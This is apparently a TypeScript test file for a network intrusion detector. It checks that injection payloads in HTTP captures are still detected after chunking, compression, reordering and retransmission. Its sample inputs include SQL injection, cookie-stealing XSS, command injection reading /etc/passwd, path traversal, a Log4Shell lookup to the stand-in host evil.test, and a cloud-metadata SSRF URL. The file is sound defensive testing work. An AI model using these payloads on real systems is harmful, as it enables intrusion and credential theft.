import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, expect, test } from 'vitest'
import { CONFIG_SCHEMA } from '../../daemon/config/current-schema.ts'
import { effectiveConfig } from '../../daemon/config/effective.ts'
import { TEST_KEY } from '../../daemon/identity/privacy-key.ts'
import { replay } from '../../daemon/topology/replay.ts'
import { type CapturedFrame, writePcap } from '../mutate/capture-file.ts'
import { exchange } from '../mutate/exchange.ts'
import { type Mutator, overlap, reorder, retransmit, seeded, splitEvery } from '../mutate/mutators.ts'

const folder = mkdtempSync(join(tmpdir(), 'offpath-payload-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))
let files = 0

/** Lines of a replay, and the capture or file they came from. */
async function lines(emit: 'signals' | 'transactions', content: Buffer | string, ending: string): Promise<string[]> {
  const path = join(folder, `${files++}.${ending}`)
  writeFileSync(path, content)
  const written: string[] = []
  await replay({
    files: [path],
    emit,
    bodies: 'text',
    speed: 'max',
    config: effectiveConfig(CONFIG_SCHEMA, null).config,
    key: TEST_KEY,
    write: (line) => {
      written.push(line)
    },
    warn: (message) => {
      throw new Error(message)
    },
    stop: new AbortController().signal,
  })
  return written
}

interface SignalLine {
  readonly detector: string
  readonly severity: string
  readonly evidence: Readonly<Record<string, unknown>>
}

/** What was found, without the ids, which depend on where it stood in the stream. */
async function found(frames: readonly CapturedFrame[]): Promise<unknown[]> {
  const signals = (await lines('signals', writePcap(frames), 'pcap')).map((line) => JSON.parse(line) as SignalLine)
  return signals
    .filter(({ detector }) => detector !== 'capture.blind')
    .map(({ detector, severity, evidence: { field, rule, decoded, layers } }) => ({
      detector,
      severity,
      field,
      rule,
      decoded,
      layers,
    }))
}

const AT = Date.UTC(2026, 10, 20, 9)
const BODY = JSON.stringify({ name: 'x', note: "1' UNION SELECT username, password FROM users-- " })
const ERROR = 'You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version'
const ANSWER = Buffer.from(
  `HTTP/1.1 500 Oops\r\nContent-Type: text/html\r\nContent-Length: ${ERROR.length}\r\n\r\n${ERROR}`,
)
const head = (extra: string) =>
  `POST /v1/notes HTTP/1.1\r\nHost: api.shop.test\r\nContent-Type: application/json\r\n${extra}\r\n`
const plain = Buffer.concat([Buffer.from(head(`Content-Length: ${BODY.length}\r\n`)), Buffer.from(BODY)])
const zipped = gzipSync(BODY)
const chunks = [...BODY].map((character) => `1\r\n${character}\r\n`).join('')

const REQUESTS: Readonly<Record<string, Buffer>> = {
  'in chunks of one byte': Buffer.from(`${head('Transfer-Encoding: chunked\r\n')}${chunks}0\r\n\r\n`),
  compressed: Buffer.concat([
    Buffer.from(head(`Content-Encoding: gzip\r\nContent-Length: ${zipped.length}\r\n`)),
    zipped,
  ]),
}
const MUTATORS: Readonly<Record<string, Mutator>> = {
  'in segments of seven bytes': splitEvery(7),
  'out of order': (frames) => reorder(3)(splitEvery(40)(frames)),
  'sent twice': (frames) => retransmit(4)(splitEvery(40)(frames)),
  overlapping: (frames) => overlap(5)(splitEvery(40)(frames)),
}
const once = (request: Buffer, response = ANSWER) => exchange({ atMs: AT, number: 1, request, response })

const EXPECTED = [
  {
    detector: 'injection.sqli',
    severity: 'high',
    field: 'body:/note',
    rule: 'sqli.union',
    decoded: expect.stringMatching(/union/i) as string,
    layers: [],
  },
]

test('a payload in a plain request is found, and what it brought out is told with it', async () => {
  expect(await found(once(plain))).toEqual(EXPECTED)
})

test.each(Object.entries(REQUESTS))('%s it is found like the plain one', async (_, request) => {
  expect(await found(once(request))).toEqual(EXPECTED)
})

test.each(Object.entries(MUTATORS))('%s it is found like the plain one', async (_, mutate) => {
  expect(await found(mutate(once(plain)))).toEqual(EXPECTED)
})

test('behind an innocent request of the same segment it is found like the plain one', async () => {
  const innocent = Buffer.from('GET /v1/orders HTTP/1.1\r\nHost: api.shop.test\r\n\r\n')
  const empty = Buffer.from('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n')
  expect(await found(once(Buffer.concat([innocent, plain]), Buffer.concat([empty, ANSWER])))).toEqual(EXPECTED)
})

/** One payload of a class each, as the value of a field. */
const PAYLOADS = [
  "1' UNION SELECT username, password FROM users-- ",
  '<script>alert(document.cookie)</script>',
  '; cat /etc/passwd',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.test/a}',
  'http://169.254.169.254/latest/meta-data/',
  '{{7*7}}{{self.__init__.__globals__}}',
]

test('cut, chunked, compressed and pipelined in any way, each payload is found exactly like the plain one', async () => {
  const random = seeded(17)
  const upTo = (most: number) => 1 + Math.floor(random() * most)
  for (const payload of PAYLOADS) {
    const body = JSON.stringify({ name: 'x', note: payload })
    const whole = Buffer.concat([Buffer.from(head(`Content-Length: ${body.length}\r\n`)), Buffer.from(body)])
    const expected = await found(once(whole))
    expect(expected).toHaveLength(1)
    const zip = gzipSync(body)
    const sent = random() < 0.5 ? zip : Buffer.from(body)
    const encoding = sent === zip ? 'Content-Encoding: gzip\r\n' : ''
    const parts: Buffer[] = [Buffer.from(head(`${encoding}Transfer-Encoding: chunked\r\n`))]
    for (let at = 0; at < sent.length; ) {
      const piece = sent.subarray(at, at + upTo(40))
      parts.push(Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from('\r\n'))
      at += piece.length
    }
    const innocent = Buffer.from('GET /v1/orders HTTP/1.1\r\nHost: api.shop.test\r\n\r\n')
    const empty = Buffer.from('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n')
    const before = Math.floor(random() * 3)
    const request = Buffer.concat([...Array<Buffer>(before).fill(innocent), ...parts, Buffer.from('0\r\n\r\n')])
    const response = Buffer.concat([...Array<Buffer>(before).fill(empty), ANSWER])
    const frames = splitEvery(upTo(60))(once(request, response))
    expect(await found(reorder(upTo(1000))(retransmit(upTo(1000))(frames))), payload).toEqual(expected)
  }
})

test('lines of transactions give the same signals as the capture they came from', async () => {
  const form = (value: string) =>
    Buffer.from(`GET /v1/search?q=${encodeURIComponent(value)} HTTP/1.1\r\nHost: api.shop.test\r\n\r\n`)
  const page = '<p><script>alert(1)</script></p>'
  const echo = Buffer.from(
    `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: ${page.length}\r\n\r\n${page}`,
  )
  const capture = writePcap([
    ...once(plain),
    ...exchange({ atMs: AT + 1000, number: 2, request: form('<script>alert(1)</script>'), response: echo }),
    ...exchange({ atMs: AT + 2000, number: 3, request: form("1'; WAITFOR DELAY '0:0:5'--"), response: echo }),
    ...exchange({ atMs: AT + 3000, number: 4, request: form('${jndi:ldap://evil.test/a}'), response: ANSWER }),
  ])
  const signals = await lines('signals', capture, 'pcap')
  expect(signals.length).toBeGreaterThanOrEqual(4)
  const native = (await lines('transactions', capture, 'pcap')).map((line) => `${line}\n`).join('')
  expect(await lines('signals', native, 'jsonl')).toEqual(signals)
})
